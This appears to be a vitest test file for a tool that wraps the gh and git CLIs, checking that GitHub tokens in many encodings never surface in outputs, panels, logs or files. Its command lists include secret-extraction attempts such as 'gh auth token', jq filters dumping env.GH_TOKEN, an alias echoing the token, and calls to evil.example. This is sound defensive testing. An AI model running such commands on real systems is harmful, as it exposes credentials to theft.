import { chmodSync, existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, expect, test } from 'vitest';
import { findProgram } from '../../../src/core/git/programs.ts';
import { panelListText, panelText } from '../../../src/core/panels/panel-text.ts';
import { addComment } from '../../github/changes/conversations.ts';
import { eachGh } from '../../github/each-gh.ts';
import { git, temporaryFolder } from '../git/support.ts';
import { type GitHubRig, gitHubRig } from './rig.ts';

/** One of each kind; the last is none that its shape would give away. */
const TOKENS = {
  classic: 'ghp_q8Zr2Lw5Tn7Yk1Vx4Bd9Hs3Jc6Mf0Pg2Ua5E',
  'fine-grained': 'github_pat_11QZ7XK2A0mWv5tRb8LyN3_hJd6sFc9GpUe1iOz4VaCkTx2BnMqYw7Er5Dl8HjSgPf',
  oauth: 'gho_m4Ct9Xe2Vw7Ns5Kq1Jz8Lb3Gd6Rf0Yh4Pu2A',
  app: 'ghs_Z1x8Cv3Bn6Mk0Lp5Jh2Gf9Ds4Aq7Wt1Er8Yu',
  enterprise: 'v1."odd\\+/%=&t:k~9f8e7d6c5b4a39281706',
} as const;

const base64 = (text: string, before = 0) => Buffer.from('x'.repeat(before) + text).toString('base64');

/** A way to write a token down, and how much of it says a dozen characters of the token. */
interface Spelling {
  readonly text: string;
  readonly telling: number;
}

const BEGINNING = /^(?:gh[a-z]_|github_pat_)/;

/** Every way that the contract names, and some more. */
const spellingsOf = (token: string): Readonly<Record<string, Spelling>> => ({
  plain: { text: token, telling: 12 },
  'as JSON': { text: JSON.stringify(token).slice(1, -1), telling: 14 },
  'URL-encoded': { text: encodeURIComponent(token), telling: 18 },
  'URL-encoded in lower case': {
    text: encodeURIComponent(token).replace(/%../g, code => code.toLowerCase()),
    telling: 18,
  },
  'URL-encoded throughout': {
    text: [...Buffer.from(token)].map(byte => `%${byte.toString(16).padStart(2, '0')}`).join(''),
    telling: 36,
  },
  'in base64': { text: base64(token), telling: 16 },
  'in base64, one on': { text: base64(token, 1), telling: 16 },
  'in base64, two on': { text: base64(token, 2), telling: 16 },
  'in base64url': { text: Buffer.from(token).toString('base64url'), telling: 16 },
  'in hex': { text: Buffer.from(token).toString('hex'), telling: 24 },
});

/** What may be found nowhere: any stretch of a spelling that says so much of the token, wherever it is cut. */
function needlesOf(token: string): Map<string, string> {
  const secret = token.replace(BEGINNING, '');
  const needles = new Map<string, string>();
  for (const [name, { text, telling }] of Object.entries(spellingsOf(secret)))
    for (let at = 0; at + telling <= text.length; at += 1) {
      const stretch = text.slice(at, at + telling);
      needles.set(stretch, name);
    }
  return needles;
}

/** The spellings that a text has a telling part of, each with the first such part. */
function findIn(text: string, needles: ReadonlyMap<string, string>): string[] {
  const found = new Map<string, string>();
  for (const [needle, name] of needles) {
    const at = found.has(name) ? -1 : text.indexOf(needle);
    if (at !== -1) found.set(name, text.slice(Math.max(0, at - 40), at + 60));
  }
  return [...found].map(([name, around]) => `${name}: ${around}`);
}

function filesUnder(folder: string): string[] {
  if (!existsSync(folder)) return [];
  return readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .map(name => join(folder, name))
    .filter(path => statSync(path).isFile());
}

/** A program that writes its words down and then does what it is for. */
function watched(folder: string, name: string, real: string, log: string): string {
  const file = join(folder, name);
  writeFileSync(file, `#!/bin/sh\nprintf '%s\\n' "$0 $*" >> '${log}'\nexec '${real}' "$@"\n`);
  chmodSync(file, 0o755);
  return file;
}

const rigs: GitHubRig[] = [];
afterEach(() => {
  for (const rig of rigs.splice(0)) rig.dispose();
});

const JQ = [
  'env',
  '$ENV',
  'env.GH_TOKEN',
  '$ENV.GITHUB_TOKEN | @base64',
  '"x" + $ENV.GH_TOKEN | @base64',
  '"xy" + env.GH_TOKEN | @base64',
  '"\\($ENV.GH_TOKEN)"',
  '@uri "\\(env.GH_TOKEN)"',
  '$ENV | tojson',
  'env | to_entries | map(.value) | join(" ")',
  '. as $x | env | .GH_TOKEN[0:20]',
  '[env.GH_TOKEN | explode]',
  'error(env.GH_TOKEN)',
  'env.GH_TOKEN | debug',
  'env.GH_TOKEN | halt_error',
  'env.GH_TOKEN | input',
];
const TEMPLATES = [
  '{{env}}',
  '{{.env}}',
  '{{ "GH_TOKEN" | env }}',
  '{{printf "%v" .}}',
  '{{range $k, $v := .}}{{$v}}{{end}}',
];

/** Commands to try with each token in use. */
const eachTokenOf = (token: string): string[] => [
  'gh issue list',
  'gh api -i user',
  'gh api --verbose user',
  'gh auth status -t',
  "gh api user --jq 'env'",
  `gh issue list --search '${token.replaceAll("'", '')}'`,
];

/** Commands that print, or try to, what nobody may see. */
const commandsOf = (issue: number, token: string): string[] => [
  `gh issue view ${issue} --comments --json body,comments,title`,
  `gh issue view ${issue} --json comments --jq '.comments[].body'`,
  `gh issue view ${issue} --json comments --template '{{range .comments}}{{.body}}{{end}}'`,
  `gh api repos/octo/demo/issues/${issue}/comments`,
  `gh api -i repos/octo/demo/issues/${issue}/comments`,
  'gh api --verbose user',
  'gh api -i user',
  "gh api -i -H 'If-None-Match: x' user",
  'gh api user --cache 1h',
  'gh pr list',
  'gh auth status',
  'gh auth status -t',
  'gh auth status --show-token',
  'gh auth token',
  'gh auth git-credential get',
  'gh auth setup-git',
  'gh config get oauth_token -h github.com',
  'gh config get -h github.com oauth_token',
  'gh config list',
  'gh config set http_unix_socket /tmp/elsewhere.sock',
  "gh alias set leak '!echo $GH_TOKEN'",
  'gh leak',
  'gh extension list',
  'gh api repos/octo/nothing',
  'gh api //evil.example/x',
  'gh api https://evil.example/x',
  'gh issue close 999',
  `gh issue comment ${issue} --body hello`,
  `gh issue list --search '${token}'`,
  `gh api 'repos/octo/demo/issues?q=${encodeURIComponent(token)}'`,
  `gh issue comment ${issue} --body '${Buffer.from(token).toString('base64')}'`,
  ...JQ.map(filter => `gh api user --jq '${filter}'`),
  ...JQ.slice(0, 4).map(filter => `gh pr list --json title --jq '${filter}'`),
  ...TEMPLATES.map(template => `gh api user --template '${template}'`),
  'git log -p',
  'git show HEAD:spellings.txt',
  'git grep -n spelled',
  'git diff HEAD~1',
  'git config --list',
  `git log --grep='${token.replaceAll("'", '')}'`,
  `git commit --allow-empty -m '${token.replaceAll("'", '')}'`,
];

test('the search finds what it looks for', () => {
  for (const token of Object.values(TOKENS)) {
    const needles = needlesOf(token);
    const secret = token.replace(BEGINNING, '');
    for (const [name, { text }] of Object.entries(spellingsOf(secret)))
      expect(findIn(`before ${text} after`, needles), name).not.toEqual([]);
    expect(findIn(Buffer.from(`x-access-token:${token}`).toString('base64'), needles)).not.toEqual([]);
    expect(findIn(`${token.slice(0, 6)}*** …${token.slice(-4)}`, needles)).toEqual([]);
  }
});

eachGh((world, program) => {
  test('no token is found in a file, a log, a result, a panel, a question or an argument of a child', async () => {
    const { github, sample } = world();
    const all = Object.values(TOKENS);
    for (const value of all) github.tokens.add({ value, login: 'monalisa', scopes: ['repo', 'read:org', 'gist'] });
    const spelled = all.flatMap(token =>
      Object.entries(spellingsOf(token)).map(([name, { text }]) => `spelled ${name}: ${text}`),
    );
    const within = all.flatMap(token => [0, 1, 2].map(before => base64(`:${token}\n`, before)));
    // Where a chunk ends inside of one, and where the output is too long to be shown.
    const long = all.flatMap(token => Array.from({ length: 4 }, (_, at) => 'f'.repeat(8192 - at * 9) + token));
    const text = [...spelled, ...within, ...long].join('\n');
    addComment(github.state, sample.crash, sample.hubot, text);

    const outside = temporaryFolder();
    const argv = join(outside, 'argv');
    const find = async (name: string) => (await findProgram(name, { PATH: process.env.PATH })) ?? name;
    watched(outside, 'git', await find('git'), argv);
    const rig = await gitHubRig({
      github,
      program: { ...program, path: watched(outside, 'gh', await find(program.path), argv) },
      origin: 'https://github.com/octo/demo.git',
      environment: {
        ...{ PATH: `${outside}:${process.env.PATH}`, GH_TOKEN: TOKENS.app, GH_ENTERPRISE_TOKEN: TOKENS.enterprise },
        ...{ GH_DEBUG: 'api', DEBUG: 'api', GIT_TRACE: '1', GIT_CURL_VERBOSE: '1' },
      },
      settings: { outputBytes: 20_000, gitHubHosts: ['ghe.example'], usesGitHubSession: true },
    });
    rigs.push(rig);
    await rig.session.set('github.com', TOKENS.oauth);
    writeFileSync(join(rig.repository, '.env'), `GITHUB_TOKEN=${TOKENS['fine-grained']}\n`);
    writeFileSync(join(rig.repository, 'spellings.txt'), `${text}\n`);
    git(rig.repository, 'add', 'spellings.txt');
    git(rig.repository, 'commit', '-qm', `A file with one: ${TOKENS.classic}`);

    const results: string[] = [];
    const run = async (command: string) => results.push(JSON.stringify(await rig.run(command)));
    const { setToken } = await rig.core.github();
    for (const [at, token] of all.entries()) {
      expect(await setToken('github.com', token)).toMatchObject({ ok: true });
      for (const command of at === 0 ? commandsOf(sample.crash.number, token) : eachTokenOf(token)) await run(command);
    }
    for (const command of eachTokenOf(TOKENS.enterprise)) await run(`${command} -R ghe.example/octo/demo`);
    await run('gh issue list -R ghe.example/octo/demo');

    // They were there to be found: GitHub was asked with each of them, and outputs held them.
    const used = new Set(github.log.requests.map(request => request.token));
    expect(all.filter(token => !used.has(token.slice(-4)))).toEqual([]);
    expect(results.filter(result => result.includes('***')).length).toBeGreaterThan(5);
    const panels = rig.core.panels.panels.list();
    expect(panels.length).toBeGreaterThan(10);
    const [open] = rig.core.repositories.list();
    const entries = open && (await (await rig.core.writes()).journal.list(open));
    const seen = [
      ...results,
      panelListText(panels),
      ...panels.map(panel => panelText(panel, { budget: 1_000_000 })),
      ...rig.lines,
      ...rig.questions.map(question => JSON.stringify(question)),
      JSON.stringify(entries),
    ];
    const needles = new Map(all.flatMap(token => [...needlesOf(token)]));
    for (const each of seen) expect(findIn(each, needles), each.slice(0, 200)).toEqual([]);
    const files = filesUnder(rig.storage);
    for (const kind of ['/panels/', '/output/', '/gh/', '/user/', 'swallowed-errors.log'])
      expect(
        files.filter(file => file.includes(kind)),
        kind,
      ).not.toEqual([]);
    // Everything that git keeps here but for what was committed on purpose.
    const kept = filesUnder(join(rig.repository, '.git')).filter(
      file => !/\/(?:objects|logs)\/|COMMIT_EDITMSG/.test(file),
    );
    for (const file of [...files, ...kept, argv])
      expect(findIn(readFileSync(file, 'latin1'), needles), file).toEqual([]);
    expect(readFileSync(argv, 'utf8')).toMatch(/\/gh api -i /);
  }, 300_000);
});
